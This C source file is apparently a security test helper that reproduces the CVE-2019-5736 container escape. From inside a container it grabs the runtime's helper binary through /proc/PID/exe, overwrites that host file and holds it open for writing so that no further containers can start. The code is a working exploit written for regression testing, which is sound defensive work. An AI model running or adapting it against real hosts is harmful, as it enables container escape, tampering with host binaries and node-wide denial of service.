/* exe_attacker: the CVE-2019-5736 attack from inside a container, for proc_self_exe_test.cc.
 * Static, so it runs in any image. It loops until its container is stopped:
 *   - every process of its PID namespace but itself: "saw PID COMM" the first time it shows up
 *     with that name; then open(/proc/PID/exe, O_PATH) on every round while it lives ("denied
 *     PID COMM ERROR" once when the kernel refuses);
 *   - an exe whose path names a vpcri binary is held ("holding PATH"), once per file;
 *   - every held file is reopened through /proc/self/fd/N for writing: ETXTBSY (still running
 *     somewhere) means try again next round; any other error means the kernel refuses ("refused
 *     PATH ERROR"). An fd it gets is kept open for good ("holding writer PATH"): as long as a
 *     file has a writer the kernel refuses to execute it (ETXTBSY), so if that file is what the
 *     runtime runs for every start, no container on the node starts any more. Then it truncates
 *     and writes the file: success means the host file is overwritten ("overwrote PATH"),
 *     failure is reported ("refused PATH write: ERROR");
 *   - "pending N" whenever the number of held files still waiting for their writer changes.
 * With no argument; prints "ready" first. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { MAX_HELD = 64, SLOTS = 4096 };

struct held {
  int fd;
  dev_t dev;
  ino_t ino;
  char path[256];
};

struct seen {
  int pid;
  char comm[32];
  int denied;
};

static struct held held[MAX_HELD];
static int nheld, npending = -1;
static struct seen seen[SLOTS];

static void read_comm(int pid, char *out, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  out[0] = '\0';
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  ssize_t n = read(fd, out, size - 1);
  close(fd);
  if (n <= 0) return;
  out[n] = '\0';
  char *nl = strchr(out, '\n');
  if (nl) *nl = '\0';
}

static void try_exe(int pid) {
  struct seen *s = &seen[pid % SLOTS];
  char comm[32];
  read_comm(pid, comm, sizeof comm);
  if (comm[0] == '\0') return; /* gone already */
  if (s->pid != pid || strcmp(s->comm, comm) != 0) {
    s->pid = pid;
    s->denied = 0;
    snprintf(s->comm, sizeof s->comm, "%s", comm);
    printf("saw %d %s\n", pid, comm);
  }
  char path[64], target[256];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    if (!s->denied && errno != ENOENT && errno != ESRCH) printf("denied %d %s %s\n", pid, comm, strerror(errno));
    s->denied = 1;
    return;
  }
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(path, target, sizeof target - 1);
  struct stat st;
  if (n <= 0 || fstat(fd, &st) != 0 || nheld == MAX_HELD) {
    close(fd);
    return;
  }
  target[n] = '\0';
  if (strstr(target, "vpcri") == NULL) {
    close(fd);
    return;
  }
  for (int i = 0; i < nheld; i++) {
    if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
      close(fd);
      return;
    }
  }
  held[nheld].fd = fd;
  held[nheld].dev = st.st_dev;
  held[nheld].ino = st.st_ino;
  snprintf(held[nheld].path, sizeof held[nheld].path, "%s", target);
  nheld++;
  printf("holding %s\n", target);
}

static void try_overwrite(void) {
  static const char payload[] = "overwritten from inside a container by tests/security/exe_attacker\n";
  int pending = 0;
  for (int i = 0; i < nheld; i++) {
    if (held[i].fd < 0) continue;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w < 0 && errno == ETXTBSY) {
      pending++;
      continue;
    }
    if (w < 0) {
      printf("refused %s %s\n", held[i].path, strerror(errno));
    } else {
      /* Never closed: a writer alone keeps every later exec of this file failing. */
      printf("holding writer %s\n", held[i].path);
      if (ftruncate(w, 0) != 0 || write(w, payload, sizeof payload - 1) != (ssize_t)(sizeof payload - 1)) {
        printf("refused %s write: %s\n", held[i].path, strerror(errno));
      } else {
        printf("overwrote %s\n", held[i].path);
      }
    }
    close(held[i].fd);
    held[i].fd = -1;
  }
  if (pending != npending) printf("pending %d\n", pending);
  npending = pending;
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  int self = getpid();
  printf("ready\n");
  enum { MAX_LIVE = 256, SPINS = 200 };
  int live[MAX_LIVE], nlive = 0, top = self;
  for (;;) {
    /* A full scan of /proc, then many fast rounds over the live pids and the next few pids the
     * namespace will hand out: the window to catch is the few milliseconds a helper runs. */
    DIR *proc = opendir("/proc");
    if (proc == NULL) {
      perror("opendir /proc");
      return 1;
    }
    struct dirent *e;
    nlive = 0;
    while ((e = readdir(proc)) != NULL) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      if (pid > top) top = pid;
      if (nlive < MAX_LIVE) live[nlive++] = pid;
    }
    closedir(proc);
    for (int spin = 0; spin < SPINS; spin++) {
      for (int i = 0; i < nlive; i++) try_exe(live[i]);
      for (int pid = top + 1; pid <= top + 4; pid++) try_exe(pid);
    }
    try_overwrite();
  }
}
